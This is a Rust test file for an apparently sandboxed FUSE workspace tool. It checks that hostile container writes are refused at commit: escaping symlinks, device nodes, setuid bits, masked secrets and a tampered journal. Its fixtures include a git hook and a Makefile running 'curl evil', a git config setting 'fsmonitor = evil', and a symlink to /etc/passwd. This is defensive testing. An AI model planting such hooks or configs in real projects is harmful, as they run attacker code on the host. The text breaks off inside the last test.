//! Hostile container and bad input (issue 6), over a real FUSE mount, the real CLI and the raw
//! control socket. Proves:
//!
//! - symlinks planted in the overlay that point outside the project (absolute, `../..`) are
//!   refused at commit with a clear error, and nothing is written outside the project;
//! - a host directory swapped for a symlink between the container's write and the commit is
//!   refused (unsafe path), nothing written through it;
//! - protected paths (.git/hooks, .git/config) are refused without `--allow-protected`, and the
//!   refusal says why; so are files that run code on the host at any depth (a submodule's
//!   hooks, a nested repository's config, `.envrc`, `.vscode/tasks.json`, CI workflows), which
//!   `status` marks, while an agent's own `git commit` and `git gc` commit cleanly (issue 14);
//! - commit/discard paths naming the project root or an absolute path are refused with 400, and
//!   a mountpoint overlapping the project is refused by the CLI and the API (issue 14);
//! - device nodes made through the mount cannot be opened (nodev: EACCES), are marked by
//!   `status`, refused at commit whatever the flags, and dropped by discard; setuid/setgid
//!   bits are not committed (unless `--keep-setid`); hard links across the mount boundary
//!   fail with EXDEV;
//! - awkward names (255 bytes, newline, leading dash, not UTF-8), depth-200 paths, an empty
//!   file, a 4 GiB sparse file and a 10,000-entry directory (100,000 in long mode:
//!   `WSFS_HOSTILE_BIG=1`) round-trip through status, diff, commit and discard;
//! - hidden paths (secrets, default policy) are invisible through lookup, readdir and open and
//!   cannot be created or renamed into place to shadow the host file into a commit;
//! - a corrupted or truncated journal is detected by `wsfs verify` and on daemon start, and
//!   no commit is made from a journal that cannot be trusted;
//! - the control API answers random, truncated and oversized requests to every route with an
//!   error response, and the daemon stays up (proptest);
//! - a container's writes to the tool configuration (`~/.claude`) never reach the host
//!   unreviewed when they configure the tool or run code (settings, hooks), while its state
//!   (history, sessions) is written through (issue 14).

mod live;

use live::text;
mod prereq;
mod support;

use std::ffi::{OsStr, OsString};
use std::io::{Read, Write};
use std::os::unix::ffi::{OsStrExt, OsStringExt};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use live::{can_mount, Live};

fn errno<T: std::fmt::Debug>(r: std::io::Result<T>) -> i32 {
    r.expect_err("expected an error")
        .raw_os_error()
        .unwrap_or(-1)
}

#[test]
fn symlinks_pointing_outside_are_refused_at_commit() {
    if !can_mount("symlinks_pointing_outside_are_refused_at_commit") {
        return;
    }
    let live = Live::new(&[("sub/file", "inside\n")]);
    let outside = live.root.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    let before = Live::snapshot(&live.project);
    let mp = live.mount();
    std::os::unix::fs::symlink(&outside, mp.join("abs")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", mp.join("sub/passwd")).unwrap();
    std::os::unix::fs::symlink("../../outside", mp.join("sub/rel")).unwrap();
    std::os::unix::fs::symlink("../file/../../..", mp.join("sub/tricky")).unwrap();
    std::os::unix::fs::symlink("file", mp.join("sub/ok")).unwrap();

    let out = live.wsfs(["--json", "commit", "w"]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        live::refused(&report),
        vec![
            ("abs".into(), "unsafe_path".into()),
            ("sub/passwd".into(), "unsafe_path".into()),
            ("sub/rel".into(), "unsafe_path".into()),
            ("sub/tricky".into(), "unsafe_path".into()),
        ],
        "{report}"
    );
    let human = text(&live.wsfs(["commit", "w"]));
    assert!(human.contains("points outside the project"), "{human}");
    assert_eq!(
        Live::snapshot(&live.project),
        before,
        "refused commit wrote"
    );
    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0);
    // The inside link alone commits.
    live.ok(["commit", "w", "sub/ok"]);
    assert_eq!(
        std::fs::read_link(live.project.join("sub/ok")).unwrap(),
        Path::new("file")
    );
}

#[test]
fn host_dir_swapped_for_a_symlink_before_commit_is_refused() {
    if !can_mount("host_dir_swapped_for_a_symlink_before_commit_is_refused") {
        return;
    }
    let live = Live::new(&[("sub/a", "host a\n"), ("deep/er/b", "host b\n")]);
    let outside = live.root.path().join("outside");
    std::fs::create_dir_all(outside.join("er")).unwrap();
    std::fs::write(outside.join("a"), "outside a\n").unwrap();
    std::fs::write(outside.join("er/b"), "outside b\n").unwrap();
    let mp = live.mount();
    std::fs::write(mp.join("sub/a"), "container a\n").unwrap();
    std::fs::write(mp.join("sub/new"), "container new\n").unwrap();
    std::fs::write(mp.join("deep/er/b"), "container b\n").unwrap();
    // The host user (or anything with host access) swaps the directories for symlinks.
    std::fs::rename(live.project.join("sub"), live.root.path().join("sub.orig")).unwrap();
    std::os::unix::fs::symlink(&outside, live.project.join("sub")).unwrap();
    std::fs::rename(
        live.project.join("deep"),
        live.root.path().join("deep.orig"),
    )
    .unwrap();
    std::os::unix::fs::symlink(&outside, live.project.join("deep")).unwrap();
    let outside_before = Live::snapshot(&outside);

    let out = live.wsfs(["--json", "commit", "w"]);
    assert_ne!(out.status.code(), Some(0), "{}", text(&out));
    assert_eq!(
        Live::snapshot(&outside),
        outside_before,
        "commit wrote through a symlinked host directory"
    );
    let forced = live.wsfs(["--json", "commit", "w", "--force"]);
    assert_ne!(forced.status.code(), Some(0), "{}", text(&forced));
    assert!(
        text(&forced).contains("symlink"),
        "refusal does not say why: {}",
        text(&forced)
    );
    assert_eq!(
        Live::snapshot(&outside),
        outside_before,
        "forced commit wrote through a symlinked host directory"
    );
}

#[test]
fn protected_paths_are_refused_and_say_why() {
    if !can_mount("protected_paths_are_refused_and_say_why") {
        return;
    }
    let live = Live::new(&[
        (".git/config", "[core]\n"),
        (".git/hooks/README", "hooks\n"),
        (".wsfsignore", "[protected]\nMakefile\n"),
        ("Makefile", "all:\n"),
    ]);
    let before = Live::snapshot(&live.project);
    let mp = live.mount();
    std::fs::write(mp.join(".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil\n").unwrap();
    std::fs::set_permissions(
        mp.join(".git/hooks/pre-commit"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    std::fs::write(mp.join(".git/config"), "[core]\n\tfsmonitor = evil\n").unwrap();
    std::fs::write(mp.join(".wsfsignore"), "").unwrap();
    std::fs::write(mp.join("Makefile"), "all:\n\tcurl evil\n").unwrap();
    let out = live.wsfs(["--json", "commit", "w"]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let protected = |p: &str| (p.to_string(), "protected".to_string());
    assert_eq!(
        live::refused(&report),
        vec![
            protected(".git/config"),
            protected(".git/hooks/pre-commit"),
            protected(".wsfsignore"),
            protected("Makefile"),
        ],
        "{report}"
    );
    let human = text(&live.wsfs(["commit", "w"]));
    assert!(
        human.contains("protected") && human.contains("--allow-protected"),
        "{human}"
    );
    assert_eq!(Live::snapshot(&live.project), before);
    live.ok(["commit", "w", "--allow-protected"]);
    assert!(live.project.join(".git/hooks/pre-commit").exists());
}

#[test]
fn device_nodes_setid_bits_and_cross_mount_links() {
    if !can_mount("device_nodes_setid_bits_and_cross_mount_links") {
        return;
    }
    let live = Live::new(&[("tool", "#!/bin/sh\n"), ("tool2", "#!/bin/sh\n")]);
    let outside = live.root.path().join("outside.txt");
    std::fs::write(&outside, "outside\n").unwrap();
    let mp = live.mount();
    // Device nodes: made in the overlay (pjdfstest expects mknod to work), but the mount is
    // nodev, so none opens as a device; they are never committed, and discard drops them.
    for (name, kind) in [("null", libc::S_IFCHR), ("disk", libc::S_IFBLK)] {
        let c = std::ffi::CString::new(mp.join(name).as_os_str().as_bytes()).unwrap();
        // SAFETY: mknod with a valid NUL-terminated path.
        let r = unsafe { libc::mknod(c.as_ptr(), kind | 0o666, libc::makedev(1, 3)) };
        assert_eq!(r, 0, "mknod {name}: {}", std::io::Error::last_os_error());
        let st = std::fs::symlink_metadata(mp.join(name)).unwrap();
        assert_eq!(st.mode() & libc::S_IFMT, kind);
        assert_eq!(st.rdev(), libc::makedev(1, 3));
        // nodev: the kernel refuses the open itself (may_open), before wsfs sees it.
        assert_eq!(errno(std::fs::File::open(mp.join(name))), libc::EACCES);
        assert_eq!(errno(std::fs::read(mp.join(name))), libc::EACCES);
        assert_eq!(
            errno(std::fs::OpenOptions::new().write(true).open(mp.join(name))),
            libc::EACCES
        );
    }
    let status = live.ok(["status", "w"]);
    assert!(
        status.contains("A  null  [device: never committed]")
            && status.contains("A  disk  [device: never committed]"),
        "{status}"
    );
    let before = Live::snapshot(&live.project);
    for flags in [&[][..], &["--allow-protected", "--force"][..]] {
        let out = live.wsfs(["--json", "commit", "w"].iter().chain(flags));
        assert_eq!(out.status.code(), Some(3), "{}", text(&out));
        let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        let device = |p: &str| (p.to_string(), "device".to_string());
        assert_eq!(
            live::refused(&report),
            vec![device("disk"), device("null")],
            "{report}"
        );
    }
    let human = text(&live.wsfs(["commit", "w", "null"]));
    assert!(
        human.contains("char device 1:3") && human.contains("never committed"),
        "{human}"
    );
    let diff = live.ok(["diff", "w", "disk"]);
    assert!(
        diff.contains("block device 1:3: device nodes are never committed"),
        "{diff}"
    );
    assert_eq!(Live::snapshot(&live.project), before, "host untouched");
    assert!(!live.project.join("null").exists() && !live.project.join("disk").exists());
    live.ok(["discard", "w", "null", "disk"]);
    assert!(!mp.join("null").exists() && !mp.join("disk").exists());
    assert_eq!(live.ok(["status", "w"]), "");
    // A FIFO is fine (not a device).
    let c = std::ffi::CString::new(mp.join("fifo").as_os_str().as_bytes()).unwrap();
    // SAFETY: as above.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);

    // Hard links across the mount boundary: EXDEV both ways.
    assert_eq!(
        errno(std::fs::hard_link(&outside, mp.join("ln"))),
        libc::EXDEV
    );
    assert_eq!(
        errno(std::fs::hard_link(
            mp.join("tool"),
            live.root.path().join("ln")
        )),
        libc::EXDEV
    );
    assert_eq!(
        errno(std::fs::hard_link(
            live.project.join("tool"),
            mp.join("ln2")
        )),
        libc::EXDEV
    );
    // A hard link inside the mount stays inside; the outside file is untouched.
    std::fs::hard_link(mp.join("tool"), mp.join("tool.ln")).unwrap();
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "outside\n");

    // setuid/setgid: stripped at commit unless asked for.
    std::fs::set_permissions(mp.join("tool"), std::fs::Permissions::from_mode(0o6755)).unwrap();
    std::fs::set_permissions(mp.join("tool2"), std::fs::Permissions::from_mode(0o4755)).unwrap();
    live.ok(["commit", "w", "tool"]);
    let mode = std::fs::metadata(live.project.join("tool")).unwrap().mode();
    assert_eq!(mode & 0o7777, 0o755, "set-id bits committed: {mode:o}");
    live.ok(["commit", "w", "tool2", "--keep-setid"]);
    let mode = std::fs::metadata(live.project.join("tool2"))
        .unwrap()
        .mode();
    assert_eq!(mode & 0o7777, 0o4755, "--keep-setid: {mode:o}");
    // The mount is nosuid/nodev.
    let info = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    let line = info
        .lines()
        .find(|l| l.contains(&format!(" {} ", mp.display())))
        .unwrap();
    assert!(line.contains("nosuid") && line.contains("nodev"), "{line}");
}

fn long_name(c: u8) -> OsString {
    OsString::from_vec(vec![c; 255])
}

/// Names and shapes that break naive tools: round trip through status, diff, commit, discard.
#[test]
fn awkward_names_round_trip() {
    if !can_mount("awkward_names_round_trip") {
        return;
    }
    let live = Live::new(&[("keep", "k")]);
    let mp = live.mount();
    let deep: PathBuf = (0..200).map(|i| format!("d{}", i % 10)).collect();
    let names: Vec<OsString> = vec![
        long_name(b'n'),
        "line\nbreak".into(),
        "-rf".into(),
        "--help".into(),
        OsString::from_vec(b"caf\xe9\xff".to_vec()),
        " lead and trail ".into(),
        "tab\there".into(),
        "empty".into(),
    ];
    for n in &names {
        let content = if n == "empty" {
            Vec::new()
        } else {
            [b"content of ".as_slice(), n.as_bytes()].concat()
        };
        std::fs::write(mp.join(n), content).unwrap();
    }
    std::fs::create_dir_all(mp.join(&deep)).unwrap();
    std::fs::write(mp.join(&deep).join(long_name(b'x')), "deep").unwrap();
    let depth = deep.components().count();
    assert_eq!(depth, 200);

    let status = live.json(["status", "w"]);
    let listed = status.as_array().unwrap().len();
    // 8 files + 200 directories + the deep file.
    assert_eq!(listed, names.len() + 200 + 1, "{status}");
    let human = live.ok(["status", "w"]);
    assert!(human.contains(r"A  line\x0abreak"), "{human}");
    assert!(human.contains(r"A  caf\xe9\xff"), "{human}");
    let diff = live.wsfs(["diff", "w"]);
    assert!(diff.status.success(), "{}", text(&diff));
    let diff = String::from_utf8_lossy(&diff.stdout);
    assert!(
        diff.contains("content of -rf"),
        "{}",
        &diff[..diff.len().min(2000)]
    );
    // Leading-dash names as path arguments (after `--`, or as ./-rf).
    let dry = live.wsfs(["commit", "w", "--dry-run", "--", "-rf"]);
    assert!(dry.status.success(), "{}", text(&dry));

    live.ok(["commit", "w"]);
    for n in &names {
        assert_eq!(
            std::fs::read(live.project.join(n)).unwrap(),
            std::fs::read(mp.join(n)).unwrap(),
            "{n:?}"
        );
    }
    assert_eq!(
        std::fs::read(live.project.join(&deep).join(long_name(b'x'))).unwrap(),
        b"deep"
    );
    assert_eq!(live.ok(["status", "w"]), "");

    // Discard: change them all again, then drop the changes.
    for n in &names {
        std::fs::write(mp.join(n), "changed").unwrap();
    }
    std::fs::remove_file(mp.join(&deep).join(long_name(b'x'))).unwrap();
    let changed = live.json(["status", "w"]);
    assert_eq!(changed.as_array().unwrap().len(), names.len() + 1);
    live.ok(["discard", "w"]);
    assert_eq!(live.ok(["status", "w"]), "");
    assert_eq!(Live::snapshot(&mp), Live::snapshot(&live.project));
    // A 256-byte name is refused as on any Linux filesystem.
    assert_eq!(
        errno(std::fs::write(
            mp.join(OsString::from_vec(vec![b'z'; 256])),
            ""
        )),
        libc::ENAMETOOLONG
    );
}

#[test]
fn sparse_4gib_file_round_trips() {
    if !can_mount("sparse_4gib_file_round_trips") {
        return;
    }
    let live = Live::new(&[("keep", "k")]);
    let mp = live.mount();
    let started = Instant::now();
    {
        let f = std::fs::File::create(mp.join("sparse")).unwrap();
        use std::os::unix::fs::FileExt;
        f.write_all_at(b"head", 0).unwrap();
        f.set_len(4 << 30).unwrap();
        f.write_all_at(b"tail", (4 << 30) - 4).unwrap();
    }
    let status = live.json(["status", "w"]);
    assert_eq!(status[0]["current"]["size"], 4u64 << 30, "{status}");
    let diff = live.wsfs(["diff", "w", "--stat"]);
    assert!(diff.status.success(), "{}", text(&diff));
    live.ok(["commit", "w"]);
    let meta = std::fs::metadata(live.project.join("sparse")).unwrap();
    assert_eq!(meta.len(), 4 << 30);
    // Still sparse on the host (not 4 GiB of written zeros).
    assert!(
        meta.blocks() * 512 < 64 << 20,
        "committed file is not sparse: {} bytes allocated",
        meta.blocks() * 512
    );
    let mut f = std::fs::File::open(live.project.join("sparse")).unwrap();
    let mut head = [0u8; 4];
    f.read_exact(&mut head).unwrap();
    assert_eq!(&head, b"head");
    // Discard of a change to it.
    {
        use std::os::unix::fs::FileExt;
        let f = std::fs::OpenOptions::new()
            .write(true)
            .open(mp.join("sparse"))
            .unwrap();
        f.write_all_at(b"HEAD", 0).unwrap();
    }
    live.ok(["discard", "w"]);
    let mut f = std::fs::File::open(mp.join("sparse")).unwrap();
    f.read_exact(&mut head).unwrap();
    assert_eq!(&head, b"head");
    eprintln!(
        "FIGURES sparse 4 GiB: write+status+diff+commit+discard {:.1} s",
        started.elapsed().as_secs_f64()
    );
}

#[test]
fn huge_directory_round_trips() {
    if !can_mount("huge_directory_round_trips") {
        return;
    }
    let n: usize = if std::env::var_os("WSFS_HOSTILE_BIG").is_some() {
        100_000
    } else {
        10_000
    };
    let live = Live::new(&[("keep", "k")]);
    let mp = live.mount();
    let t = Instant::now();
    std::fs::create_dir(mp.join("big")).unwrap();
    for i in 0..n {
        std::fs::File::create(mp.join(format!("big/entry-{i:06}"))).unwrap();
    }
    let created = t.elapsed();
    let t = Instant::now();
    assert_eq!(std::fs::read_dir(mp.join("big")).unwrap().count(), n);
    let listed = t.elapsed();
    let t = Instant::now();
    let status = live.json(["status", "w"]);
    assert_eq!(status.as_array().unwrap().len(), n + 1);
    let status_t = t.elapsed();
    let t = Instant::now();
    live.ok(["commit", "w"]);
    let commit_t = t.elapsed();
    assert_eq!(
        std::fs::read_dir(live.project.join("big")).unwrap().count(),
        n
    );
    let t = Instant::now();
    std::fs::remove_dir_all(mp.join("big")).unwrap();
    live.ok(["discard", "w"]);
    let discard_t = t.elapsed();
    assert_eq!(std::fs::read_dir(mp.join("big")).unwrap().count(), n);
    eprintln!(
        "FIGURES {n}-entry directory: create {:.1} s, readdir {:.2} s, status {:.1} s, commit {:.1} s, rm -r + discard {:.1} s",
        created.as_secs_f64(),
        listed.as_secs_f64(),
        status_t.as_secs_f64(),
        commit_t.as_secs_f64(),
        discard_t.as_secs_f64()
    );
}

/// Host secrets are masked (issue 14): listed with their host metadata, never read, replaced,
/// moved or removed through the mount; a secret the workspace makes is its own and is never
/// committed.
#[test]
fn host_secrets_are_masked_and_workspace_secrets_are_never_committed() {
    if !can_mount("host_secrets_are_masked_and_workspace_secrets_are_never_committed") {
        return;
    }
    let live = Live::new(&[
        (".env", "SECRET=1\n"),
        (".env.production", "SECRET=2\n"),
        ("certs/server.pem", "PEM\n"),
        ("home/id_rsa", "KEY\n"),
        ("visible.txt", "v\n"),
    ]);
    let before = Live::snapshot(&live.project);
    let mp = live.mount();
    for p in [".env", ".env.production", "certs/server.pem", "home/id_rsa"] {
        let host = std::fs::symlink_metadata(live.project.join(p)).unwrap();
        let seen = std::fs::symlink_metadata(mp.join(p)).expect("a host secret is listed");
        assert_eq!(
            (seen.len(), seen.mtime(), seen.ino()),
            (host.len(), host.mtime(), host.ino()),
            "{p}: the host's size, time and inode"
        );
        assert_eq!(errno(std::fs::read(mp.join(p))), libc::EACCES, "open {p}");
    }
    let mut root: Vec<String> = std::fs::read_dir(&mp)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    root.sort();
    assert_eq!(
        root,
        vec![".env", ".env.production", "certs", "home", "visible.txt"]
    );
    // Replacing, moving or removing a host secret.
    assert_eq!(
        errno(std::fs::write(mp.join(".env"), "SECRET=evil\n")),
        libc::EACCES
    );
    std::fs::write(mp.join("staged"), "SECRET=evil\n").unwrap();
    assert_eq!(
        errno(std::fs::rename(mp.join("staged"), mp.join(".env"))),
        libc::EACCES
    );
    assert_eq!(
        errno(std::fs::rename(mp.join(".env"), mp.join("leak"))),
        libc::EACCES
    );
    assert_eq!(errno(std::fs::remove_file(mp.join(".env"))), libc::EACCES);
    assert_eq!(
        errno(std::fs::remove_file(mp.join("home/id_rsa"))),
        libc::EACCES
    );
    assert!(std::os::unix::fs::symlink("visible.txt", mp.join(".env")).is_err());
    assert!(std::fs::hard_link(mp.join("staged"), mp.join("certs/server.pem")).is_err());
    assert!(std::fs::create_dir(mp.join("home/id_rsa")).is_err());
    let f = std::fs::OpenOptions::new()
        .write(true)
        .open(mp.join(".env"));
    assert_eq!(errno(f), libc::EACCES, "truncate through open");
    // The workspace's own secret: a hidden name the host does not have.
    std::fs::write(mp.join("new.key"), "k").unwrap();
    assert_eq!(std::fs::read(mp.join("new.key")).unwrap(), b"k");
    let status = live.json(["status", "w"]);
    let mut flags: Vec<(&str, bool)> = status
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["path"].as_str().unwrap(), c["secret"].as_bool().unwrap()))
        .collect();
    flags.sort();
    assert_eq!(
        flags,
        vec![("new.key", true), ("staged", false)],
        "{status}"
    );
    let out = live.ok(["commit", "w"]);
    assert!(out.contains("secret   new.key"), "{out}");
    let mut want = before.clone();
    want.insert(PathBuf::from("staged"), b"SECRET=evil\n".to_vec());
    assert_eq!(
        Live::snapshot(&live.project),
        want,
        "new.key never reaches the host"
    );
}

/// Tracked secrets stay tracked through an agent's git work (issue 14): `git status` in the
/// workspace is clean, `git add -A && git commit` keeps them in the tree, and `wsfs commit`
/// hands the host a repository that still tracks them, its files untouched. `cp .env.example
/// .env` works where the host has no `.env`.
#[test]
fn tracked_secrets_stay_tracked_through_an_agents_git_commit() {
    if !can_mount("tracked_secrets_stay_tracked_through_an_agents_git_commit") {
        return;
    }
    let live = Live::new(&[
        (".env", "SECRET=1\n"),
        ("deploy.pem", "-----BEGIN KEY-----\n"),
        ("app/.env.example", "TOKEN=\n"),
        ("app/main.rs", "fn main() {}\n"),
    ]);
    git(&live.project, &["init", "-q"]);
    git(&live.project, &["add", "-A"]);
    git(&live.project, &["commit", "-qm", "base"]);
    // An index written in the same second as the files it lists is "racily clean": git would
    // re-read them to compare, which a masked secret refuses. A project's index is normally
    // older than its files' last change; `git status` on the host refreshes a racy one.
    std::thread::sleep(Duration::from_millis(1100));
    git(&live.project, &["update-index", "--really-refresh"]);
    let secrets_before = (
        std::fs::read(live.project.join(".env")).unwrap(),
        std::fs::read(live.project.join("deploy.pem")).unwrap(),
    );
    let mp = live.mount();
    assert_eq!(
        git(&mp, &["status", "--porcelain"]),
        "",
        "masked secrets look unchanged"
    );
    assert_eq!(errno(std::fs::read(mp.join(".env"))), libc::EACCES);
    // The agent's setup and work.
    std::fs::copy(mp.join("app/.env.example"), mp.join("app/.env")).unwrap();
    std::fs::write(mp.join("app/main.rs"), "fn main() { run() }\n").unwrap();
    git(&mp, &["add", "-A"]);
    git(&mp, &["commit", "-qm", "agent"]);
    let tree = git(&mp, &["ls-tree", "-r", "--name-only", "HEAD"]);
    assert!(tree.lines().any(|l| l == ".env"), "{tree}");
    assert!(tree.lines().any(|l| l == "deploy.pem"), "{tree}");
    live.ok(["commit", "w"]);
    // The host: the agent's commit, still tracking the secrets, which are untouched.
    let tree = git(&live.project, &["ls-tree", "-r", "--name-only", "HEAD"]);
    assert!(tree.lines().any(|l| l == ".env"), "{tree}");
    assert!(tree.lines().any(|l| l == "deploy.pem"), "{tree}");
    assert_eq!(
        git(&live.project, &["log", "-1", "--format=%s"]).trim(),
        "agent"
    );
    git(&live.project, &["fsck", "--strict"]);
    assert_eq!(
        (
            std::fs::read(live.project.join(".env")).unwrap(),
            std::fs::read(live.project.join("deploy.pem")).unwrap(),
        ),
        secrets_before
    );
    assert!(
        !live.project.join("app/.env").exists(),
        "the workspace's own secret stays in the workspace"
    );
}

fn journal_path(live: &Live) -> PathBuf {
    live.state.join("workspaces/w/journal")
}

fn rewrite_journal(live: &Live, f: impl FnOnce(&mut Vec<u8>)) {
    let p = journal_path(live);
    let mut data = std::fs::read(&p).unwrap();
    f(&mut data);
    std::fs::write(&p, data).unwrap();
}

fn setup_journal(live: &Live) -> PathBuf {
    let mp = live.mount();
    for i in 0..5 {
        std::fs::write(mp.join(format!("f{i}")), format!("new {i}\n")).unwrap();
    }
    mp
}

#[test]
fn corrupted_journal_is_detected_and_never_committed_from() {
    if !can_mount("corrupted_journal_is_detected_and_never_committed_from") {
        return;
    }
    let mut live = Live::new(&[("f0", "old 0\n")]);
    let before = Live::snapshot(&live.project);
    setup_journal(&live);
    assert!(live.stop().success());
    // Flip one byte inside the third record's payload.
    rewrite_journal(&live, |d| {
        let starts: Vec<usize> = std::iter::once(0)
            .chain(
                d.iter()
                    .enumerate()
                    .filter(|(_, b)| **b == b'\n')
                    .map(|(i, _)| i + 1),
            )
            .collect();
        let pos = starts[2] + 20;
        d[pos] ^= 0x01;
    });
    live.start();
    // On start: reported, not served.
    let list = live.json(["list"]);
    let problem = list[0]["problem"].as_str().unwrap_or_default().to_string();
    assert!(problem.contains("line 3"), "{list}");
    let info = live.wsfs(["status", "w"]);
    assert_eq!(info.status.code(), Some(1), "{}", text(&info));
    // verify names the line; commit refuses and says how to recover.
    let v = live.wsfs(["verify", "w"]);
    assert_ne!(v.status.code(), Some(0), "{}", text(&v));
    assert!(text(&v).contains("line 3"), "{}", text(&v));
    let c = live.wsfs(["commit", "w", "--force", "--allow-protected"]);
    assert_ne!(c.status.code(), Some(0), "{}", text(&c));
    assert_eq!(
        Live::snapshot(&live.project),
        before,
        "committed from a corrupt journal"
    );
    assert!(
        text(&c).contains("journal"),
        "refusal does not name the journal: {}",
        text(&c)
    );
}

#[test]
fn corrupted_journal_refusal_says_how_to_recover() {
    if !can_mount("corrupted_journal_refusal_says_how_to_recover") {
        return;
    }
    let mut live = Live::new(&[("f0", "old 0\n")]);
    setup_journal(&live);
    assert!(live.stop().success());
    rewrite_journal(&live, |d| {
        let i = d.iter().position(|b| *b == b'\n').unwrap() + 30;
        d[i] ^= 0x01;
    });
    live.start();
    let c = text(&live.wsfs(["commit", "w"]));
    assert!(
        c.contains("wsfs remove") || c.contains("recover") || c.contains("restore"),
        "{c}"
    );
}

#[test]
fn truncated_journal_tail_is_cut_and_middle_damage_refused() {
    if !can_mount("truncated_journal_tail_is_cut_and_middle_damage_refused") {
        return;
    }
    let mut live = Live::new(&[("f0", "old 0\n")]);
    setup_journal(&live);
    let records = live.json(["verify", "w"])["records"].as_u64().unwrap();
    assert!(live.stop().success());
    // A torn last line (what an interrupted append leaves): cut on start, one record lost,
    // the rest served and the chain intact.
    rewrite_journal(&live, |d| {
        let n = d.len();
        d.truncate(n - 40);
    });
    live.start();
    let out = live.wsfs(["--json", "verify", "w"]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["chain_ok"], true, "{v}");
    // The cut record was the last file's write: recovery re-records what the upper layer
    // holds for f4 (one record cut, one appended), so verify finds nothing.
    assert_eq!(v["problems"], serde_json::json!([]), "{v}");
    assert_eq!(v["records"].as_u64().unwrap(), records, "{v}");
    assert!(
        live.log().contains("re-recording"),
        "f4 not re-recorded: {}",
        live.log()
    );
    assert!(
        live.log().contains("cut") || live.log().contains("torn"),
        "torn tail not logged"
    );
    // Damage in the middle (a line deleted): refused.
    assert!(live.stop().success());
    rewrite_journal(&live, |d| {
        let starts: Vec<usize> = std::iter::once(0)
            .chain(
                d.iter()
                    .enumerate()
                    .filter(|(_, b)| **b == b'\n')
                    .map(|(i, _)| i + 1),
            )
            .collect();
        d.drain(starts[1]..starts[2]);
    });
    live.start();
    let list = live.json(["list"]);
    assert!(list[0]["problem"].as_str().is_some(), "{list}");
    let c = live.wsfs(["commit", "w"]);
    assert_ne!(c.status.code(), Some(0), "{}", text(&c));
}

/// The journal is damaged while the daemon runs (behind its back): `verify` sees it, and a
/// commit must not go ahead from a journal that no longer verifies (commit checks the journal
/// first: `Journal::check_unchanged`).
#[test]
fn journal_corrupted_while_running_blocks_commit() {
    if !can_mount("journal_corrupted_while_running_blocks_commit") {
        return;
    }
    let live = Live::new(&[("f0", "old 0\n")]);
    let before = Live::snapshot(&live.project);
    setup_journal(&live);
    rewrite_journal(&live, |d| {
        let i = d.iter().position(|b| *b == b'\n').unwrap() + 30;
        d[i] ^= 0x01;
    });
    let v = live.wsfs(["--json", "verify", "w"]);
    let v: serde_json::Value = serde_json::from_slice(&v.stdout).unwrap();
    assert_eq!(v["chain_ok"], false, "{v}");
    let c = live.wsfs(["commit", "w"]);
    assert_ne!(c.status.code(), Some(0), "{}", text(&c));
    assert_eq!(Live::snapshot(&live.project), before);
}

/// The journal file is swapped while the daemon runs (a copy with the very same bytes renamed
/// over it): the file the daemon has open is intact, but the path names another one, which the
/// next start would replay. Commit checks the path against the open file (device and inode)
/// and refuses, saying to run `wsfs verify`, which reports the swap (issue 14).
#[test]
fn journal_replaced_while_running_blocks_commit() {
    if !can_mount("journal_replaced_while_running_blocks_commit") {
        return;
    }
    let live = Live::new(&[("f0", "old 0\n")]);
    let before = Live::snapshot(&live.project);
    setup_journal(&live);
    let p = journal_path(&live);
    let swap = p.with_file_name("journal.swap");
    std::fs::copy(&p, &swap).unwrap();
    std::fs::rename(&swap, &p).unwrap();
    let c = live.wsfs(["commit", "w"]);
    assert_eq!(c.status.code(), Some(1), "{}", text(&c));
    let msg = text(&c);
    assert!(
        msg.contains("replaced on disk") && msg.contains("wsfs verify"),
        "{msg}"
    );
    assert_eq!(Live::snapshot(&live.project), before);
    let v = live.wsfs(["verify", "w"]);
    assert_eq!(v.status.code(), Some(1), "{}", text(&v));
    assert!(text(&v).contains("replaced on disk"), "{}", text(&v));
}

/// Sends one raw HTTP request; returns the response (empty if the server closed). With
/// `hang_up`, the client closes its side after sending (a truncated request: the server sees
/// EOF where it expected more).
fn raw_with(socket: &Path, req: &[u8], hang_up: bool) -> String {
    let mut s = std::os::unix::net::UnixStream::connect(socket).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let _ = s.write_all(req);
    if hang_up {
        let _ = s.shutdown(std::net::Shutdown::Write);
    }
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    String::from_utf8_lossy(&out).into_owned()
}

fn raw(socket: &Path, req: &[u8]) -> String {
    raw_with(socket, req, false)
}

const ROUTES: &[(&str, &str)] = &[
    ("POST", "/v1/workspaces"),
    ("POST", "/v1/workspaces/w/diff"),
    ("POST", "/v1/workspaces/w/patch"),
    ("POST", "/v1/workspaces/w/export"),
    ("POST", "/v1/workspaces/w/commit"),
    ("POST", "/v1/workspaces/w/discard"),
    ("POST", "/v1/workspaces/w/unmount"),
    ("GET", "/v1/workspaces/w/status"),
    ("DELETE", "/v1/workspaces/zz"),
    ("GET", "/v1/daemon"),
];

const VALID: &[&str] = &[
    r#"{"project":"/nonexistent","name":"x"}"#,
    r#"{"paths":["a","b"]}"#,
    r#"{"paths":[],"dry_run":true,"force":false}"#,
    r#"{"branch":"agent","message":"m","paths":["a"],"force":true}"#,
];

#[test]
fn control_api_survives_random_and_truncated_requests() {
    if !can_mount("control_api_survives_random_and_truncated_requests") {
        return;
    }
    use proptest::prelude::*;
    let live = Live::new(&[("a", "a")]);
    let mp = live.mount();
    std::fs::write(mp.join("a"), "changed").unwrap();
    let before = Live::snapshot(&live.project);
